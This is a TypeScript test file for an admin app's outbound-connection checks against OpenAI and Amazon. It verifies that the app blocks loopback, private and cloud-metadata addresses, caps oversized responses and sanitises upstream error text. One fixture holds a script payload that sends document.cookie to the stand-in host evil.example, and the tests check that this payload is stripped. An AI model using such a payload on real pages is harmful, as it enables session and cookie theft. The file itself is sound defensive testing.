import type { IncomingMessage, ServerResponse } from 'node:http';
import { describe, expect, it } from 'vitest';
import type { CheckRowResult, CheckRun } from '../../src/domain/connection-checks/check-run.js';
import type { IntegrationCheck } from '../../src/domain/connection-checks/integration-check.js';
import { FOREIGN_TEXT_LIMIT } from '../../src/shared/summarize-foreign-text.js';
import { startCaptureServer, streamHugeAnswer, type CaptureServer, type EndlessAnswer } from '../helpers/capture-server.js';
import { openAdminApp, type AdminApp } from '../helpers/open-admin-app.js';

const KEY = 'sk-proj-outbound-limits-00000000000000000001';
const RELAY_TOKEN = 'pwr_outbound-limits-token-000000000001';
const MB = 1024 * 1024;

const checkOpenAi = async (admin: AdminApp) => (await admin.call('POST', '/api/checks/openai')).json<IntegrationCheck>();
async function checkAmazon(admin: AdminApp): Promise<CheckRowResult> {
  const events = (await admin.call('POST', '/api/checks/amazon')).body.split('\n').filter(Boolean).map((line) => JSON.parse(line) as { type: string; run?: CheckRun });
  return events.find((e) => e.type === 'done')!.run!.rows[0]!;
}
const relaySettings = (url: string) => ({ mode: 'passivewp', relayUrl: url, relayToken: RELAY_TOKEN, defaultCountry: 'de', defaultPartnerTag: 'mytag-21' });

/** Answers every request with 50 MB, remembering how each ended. */
function endlessly(capture: CaptureServer): EndlessAnswer[] {
  const answers: EndlessAnswer[] = [];
  capture.answer((_request, response) => void answers.push(streamHugeAnswer(response, 50 * MB)));
  return answers;
}

describe('private addresses, with PASSIVEWP_ALLOW_PRIVATE_OUTBOUND unset', () => {
  it('refuses an OpenAI Base URL whose host name resolves to loopback, connecting to nothing, and says what to set', async () => {
    const admin = await openAdminApp({ PASSIVEWP_ALLOW_PRIVATE_OUTBOUND: '' });
    const internal = await startCaptureServer();
    expect((await admin.save('openai', { apiKey: KEY, baseUrl: `http://localhost:${internal.port}/v1` })).statusCode).toBe(200);
    const { findings } = await checkOpenAi(admin);
    expect(findings[0]).toMatchObject({ cause: 'network_error', fixField: 'baseUrl', message: expect.stringMatching(/private or special-purpose address.*PASSIVEWP_ALLOW_PRIVATE_OUTBOUND/) });
    expect(internal.connections()).toBe(0);
  });

  it.each([
    ['loopback', (port: number) => `http://127.0.0.1:${port}`],
    ['the cloud metadata address', () => 'http://169.254.169.254'],
    ['a private network address', () => 'http://10.0.0.7:8080'],
  ])('refuses a Relay URL on %s', async (_label, urlFor) => {
    const admin = await openAdminApp({ PASSIVEWP_ALLOW_PRIVATE_OUTBOUND: '' });
    const internal = await startCaptureServer();
    expect((await admin.save('amazon', relaySettings(urlFor(internal.port)))).statusCode).toBe(200);
    expect(await checkAmazon(admin)).toMatchObject({ status: 'error', cause: 'relay_unreachable', message: expect.stringContaining('private or special-purpose address') });
    expect(internal.connections()).toBe(0);
  });
});

describe('answers too large to read', () => {
  it('drops a 50 MB OpenAI answer at 1 MB and reports it, instead of reading it into memory', async () => {
    const admin = await openAdminApp();
    const server = await startCaptureServer();
    const answers = endlessly(server);
    await admin.save('openai', { apiKey: KEY, baseUrl: `${server.origin}/v1` });
    const { findings } = await checkOpenAi(admin);
    expect(findings[0]).toMatchObject({ cause: 'unexpected_response', message: expect.stringContaining('larger than 1 MB') });
    await expect.poll(() => answers.every((a) => a.dropped())).toBe(true);
    expect(Math.max(...answers.map((a) => a.written()))).toBeLessThan(10 * MB);
  });

  it('drops a 50 MB relay answer at 5 MB', async () => {
    const admin = await openAdminApp();
    const relay = await startCaptureServer();
    const answers = endlessly(relay);
    await admin.save('amazon', relaySettings(relay.origin));
    expect(await checkAmazon(admin)).toMatchObject({ status: 'error', message: expect.stringContaining('larger than 5 MB') });
    await expect.poll(() => answers.length > 0 && answers.every((a) => a.dropped())).toBe(true);
    expect(Math.max(...answers.map((a) => a.written()))).toBeLessThan(20 * MB);
  });

  it('drops a 50 MB answer from an Amazon endpoint at 2 MB', async () => {
    const amazon = await startCaptureServer();
    const answers = endlessly(amazon);
    const admin = await openAdminApp({ PASSIVEWP_AMAZON_ENDPOINT_OVERRIDE: amazon.origin, PASSIVEWP_ALLOW_PRIVATE_OUTBOUND: '' });
    await admin.save('amazon', { mode: 'creators', creatorsCredentialId: 'amzn1.application-oa2-client.limits', creatorsCredentialSecret: 'amzn1.oa2-cs.v1.limits', creatorsCredentialVersion: '3.2', defaultCountry: 'de', defaultPartnerTag: 'mytag-21' });
    expect(await checkAmazon(admin)).toMatchObject({ status: 'error', cause: 'unexpected_response', message: expect.stringContaining('larger than 2 MB') });
    await expect.poll(() => answers.every((a) => a.dropped())).toBe(true);
  });
});

describe('what a foreign server writes is repeated only as a short, clean summary', () => {
  const PAGE = `<html><head><script>document.location='https://evil.example/'+document.cookie</script></head><body><h1>Upstream says no</h1>${'Lorem ipsum dolor sit amet. '.repeat(400)}</body></html>`;

  it('in an OpenAI finding, with the key masked', async () => {
    const admin = await openAdminApp();
    const server = await startCaptureServer();
    server.answer((_request, response) => void response.writeHead(500, { 'content-type': 'application/json' }).end(JSON.stringify({ error: { message: `${PAGE} key ${KEY}`, type: 'server_error' } })));
    await admin.save('openai', { apiKey: KEY, baseUrl: `${server.origin}/v1` });
    const [finding] = (await checkOpenAi(admin)).findings;
    expect(finding?.cause).toBe('service_unavailable');
    const quoted = /\((.*)\)$/.exec(finding!.message)![1]!;
    expect(quoted).toMatch(/^Upstream says no Lorem ipsum/);
    expect(Array.from(quoted).length).toBeLessThanOrEqual(FOREIGN_TEXT_LIMIT);
    expect(finding!.message).not.toMatch(/<|script|evil\.example/);
    expect(JSON.stringify(finding)).not.toContain(KEY);
    expect(admin.logs()).not.toMatch(/evil\.example|Lorem ipsum dolor sit amet\. Lorem ipsum dolor sit amet\. Lorem ipsum dolor sit amet\. Lorem ipsum dolor sit amet\. Lorem ipsum dolor sit amet\. Lorem/);
  });

  it('in an Amazon check row', async () => {
    const amazon = await startCaptureServer();
    amazon.answer((request: IncomingMessage, response: ServerResponse) => {
      if (request.url?.includes('/auth/o2/token')) return void response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'Atza|token', token_type: 'bearer', expires_in: 3600 }));
      response.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ type: 'ValidationException', message: PAGE }));
    });
    const admin = await openAdminApp({ PASSIVEWP_AMAZON_ENDPOINT_OVERRIDE: amazon.origin });
    await admin.save('amazon', { mode: 'creators', creatorsCredentialId: 'amzn1.application-oa2-client.text', creatorsCredentialSecret: 'amzn1.oa2-cs.v1.text', creatorsCredentialVersion: '3.2', defaultCountry: 'de', defaultPartnerTag: 'mytag-21' });
    const row = await checkAmazon(admin);
    expect(row).toMatchObject({ status: 'error', cause: 'request_invalid', message: expect.stringMatching(/^Amazon refused the request: Upstream says no Lorem ipsum/) });
    expect(Array.from(row.message.replace('Amazon refused the request: ', '')).length).toBeLessThanOrEqual(FOREIGN_TEXT_LIMIT);
    expect(row.message).not.toMatch(/<|script|evil\.example/);
    expect(admin.logs()).not.toContain('evil.example');
  });
});
